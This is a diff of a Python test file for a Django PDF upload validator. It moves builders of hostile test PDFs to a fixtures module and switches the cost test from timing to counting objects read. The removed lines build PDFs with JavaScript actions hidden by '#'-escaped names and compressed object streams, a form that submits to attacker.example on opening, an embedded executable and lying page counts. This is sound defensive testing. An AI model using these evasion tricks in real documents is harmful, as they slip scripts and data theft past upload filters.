@@ -2,133 +2,19 @@
 corpus the tests build themselves — scripts wherever PDF allows them, names written with
 ``#`` escapes, a script inside a compressed object stream, a form that submits, tens of
 thousands of empty pages, a page count that lies — each refused with the form's message,
-each judged in a time bounded as a ratio to a normal document's check."""
-
-import io
-import time
-import zlib
+each judged at a cost bounded by a normal document's check (objects read)."""
 
 import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import translation
+from pypdf import PdfReader
 
 from consortium.intake.pdf_check import Verdict, judge
 from consortium.intake.uploads import validate_pdf
 from tests.fixtures.files import pdf_written
+from tests.fixtures.hostile_pdfs import HOSTILE, pages
 
-# -- builders -------------------------------------------------------------------------------
-
-
-def raw_pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
-    """A PDF written byte by byte: ``objects`` by number, a classic cross-reference table."""
-    out = io.BytesIO()
-    out.write(b"%PDF-1.4\n")
-    offsets = {}
-    for number in sorted(objects):
-        offsets[number] = out.tell()
-        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, objects[number]))
-    size = max(objects) + 1
-    xref = out.tell()
-    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
-    for number in range(1, size):
-        out.write(
-            b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
-        )
-    out.write(b"trailer<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref))
-    return out.getvalue()
-
-
-def pages(count: int, *, declared: int | None = None, page_type: bytes = b"/Page") -> bytes:
-    """``count`` empty pages; the page tree says ``declared`` (the truth by default), the
-    pages' type written ``page_type``."""
-    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
-    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(count))
-    told = count if declared is None else declared
-    objects[2] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, told)
-    for n in range(count):
-        objects[3 + n] = b"<</Type%s/Parent 2 0 R/MediaBox[0 0 612 792]>>" % page_type
-    return raw_pdf(objects)
-
-
-def in_object_stream(hidden: bytes) -> bytes:
-    """A PDF 1.5 whose opening action (object 4) is inside a compressed object stream,
-    found through a cross-reference stream: nothing of it shows in the file's bytes."""
-    header = b"4 0 "
-    stream = zlib.compress(header + hidden)
-    out = io.BytesIO()
-    out.write(b"%PDF-1.5\n")
-    offsets = {}
-    plain = {
-        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
-        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
-        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
-    }
-    for number, body in plain.items():
-        offsets[number] = out.tell()
-        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
-    offsets[5] = out.tell()
-    out.write(
-        b"5 0 obj\n<</Type/ObjStm/N 1/First %d/Filter/FlateDecode/Length %d>>\nstream\n"
-        % (len(header), len(stream))
-    )
-    out.write(stream + b"\nendstream\nendobj\n")
-    offsets[6] = out.tell()
-    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]  # object 0: free
-    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (1, 2, 3)]
-    rows.append(b"\x02" + (5).to_bytes(4, "big") + b"\x00\x00")  # 4: in stream 5, index 0
-    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + b"\x00\x00" for n in (5, 6)]
-    table = b"".join(rows)
-    out.write(
-        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
-    )
-    out.write(table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6])
-    return out.getvalue()
-
-
-# A script action, its names written with ``#`` escapes: nothing in the bytes reads
-# « JavaScript » or « JS », as a viewer decodes them.
-SCRIPT = b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"
-CATALOG = b"<</Type/Catalog/Pages 2 0 R%s>>"
-TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
-PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]%s>>"
-
-
-def hostile(catalog: bytes = b"", page: bytes = b"", **more: bytes) -> bytes:
-    """One page, with ``catalog`` and ``page`` entries, and objects 4, 5, … (``o4=…``)."""
-    objects = {1: CATALOG % catalog, 2: TREE, 3: PAGE % page}
-    objects.update({int(name[1:]): body for name, body in more.items()})
-    return raw_pdf(objects)
-
-
-HOSTILE = {
-    "script in an annotation's additional actions": lambda: hostile(
-        page=b"/Annots[4 0 R]",
-        o4=b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]/AA<</D 5 0 R>>>>",
-        o5=SCRIPT,
-    ),
-    "script in an outline item": lambda: hostile(
-        catalog=b"/Outlines 4 0 R",
-        o4=b"<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>",
-        o5=b"<</Title(Sommaire)/Parent 4 0 R/A 6 0 R>>",
-        o6=SCRIPT,
-    ),
-    "script as a form field's calculation": lambda: hostile(
-        catalog=b"/AcroForm<</Fields[4 0 R]>>",
-        o4=b"<</FT/Tx/T(total)/AA<</C 5 0 R>>>>",
-        o5=SCRIPT,
-    ),
-    "a form that submits on opening": lambda: hostile(
-        catalog=b"/OpenAction 4 0 R", o4=b"<</S/SubmitForm/F(https://attacker.example/c)>>"
-    ),
-    "an escaped script name on opening (/J#61vaScript)": lambda: hostile(
-        catalog=b"/OpenAction 4 0 R", o4=SCRIPT
-    ),
-    "a script inside a compressed object stream": lambda: in_object_stream(
-        b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
-    ),
-    "an embedded file": lambda: pdf_written(lambda writer: writer.add_attachment("x.exe", b"MZ")),
-}
 MESSAGES = {
     Verdict.ACTIVE: "contient un script ou des fichiers intégrés",
     Verdict.TOO_MANY_PAGES: "compte plus de 500 pages",
@@ -198,26 +84,44 @@ def test_genuine_documents_pass():
         validate_pdf(upload(content))
 
 
-# -- cost, as a ratio to a normal document's check --------------------------------------------
+# -- cost, counted in objects read ------------------------------------------------------------
+#
+# The work of a check is pypdf reading objects; the byte scans before it run at C speed over
+# at most 10 MB. Counted, not timed (times belong in ``make bench``: bench/hostile_pdfs.py
+# measures the same corpus as ratios of time).
 
 
-def fastest(content: bytes, runs: int = 3) -> float:
-    best = float("inf")
-    for _ in range(runs):
-        start = time.perf_counter()
+@pytest.fixture
+def objects_read(monkeypatch):
+    """How many objects pypdf reads while the block runs: a count kept around pypdf's own
+    ``PdfReader.get_object``, which still does the reading."""
+    count = [0]
+    read = PdfReader.get_object
+
+    def counted(self, indirect_reference):
+        count[0] += 1
+        return read(self, indirect_reference)
+
+    monkeypatch.setattr(PdfReader, "get_object", counted)
+
+    def cost(content: bytes) -> int:
+        count[0] = 0
         judge(content)
-        best = min(best, time.perf_counter() - start)
-    return best
+        return count[0]
+
+    return cost
 
 
-def test_no_hostile_document_costs_more_than_the_largest_genuine_one():
-    """Against the check of the largest document accepted (500 pages), in the same run:
-    every hostile one within twice its time (most cost what a one-page document does; the
-    100,000 pages, 10 MB, are refused before the document is read; a count that lies costs
-    the walk of the page budget). Minimum of three runs each, the machine's noise aside."""
-    largest = fastest(pages(500))
+def test_no_hostile_document_costs_more_than_the_largest_genuine_one(objects_read):
+    """Against the check of the largest document accepted (500 pages): no hostile one makes
+    pypdf read more objects. Most cost what a one-page document does; the 100,000 pages
+    (10 MB) are refused before pypdf opens them; a count that lies costs the walk of the page
+    budget and no more."""
+    largest = objects_read(pages(500))
+    assert largest >= 500  # the walk really reads every page
     corpus = {name: build() for name, build in HOSTILE.items()}
-    corpus["100,000 empty pages"] = pages(100_000)
     corpus["2,000 pages said to be one"] = pages(2_000, declared=1, page_type=b"/P#61ge")
-    ratios = {name: round(fastest(content) / largest, 3) for name, content in corpus.items()}
-    assert max(ratios.values()) < 2, ratios
+    costs = {name: objects_read(content) for name, content in corpus.items()}
+    assert max(costs.values()) <= largest + 5, costs
+    assert costs["2,000 pages said to be one"] < 2_000 / 3
+    assert objects_read(pages(100_000)) == 0
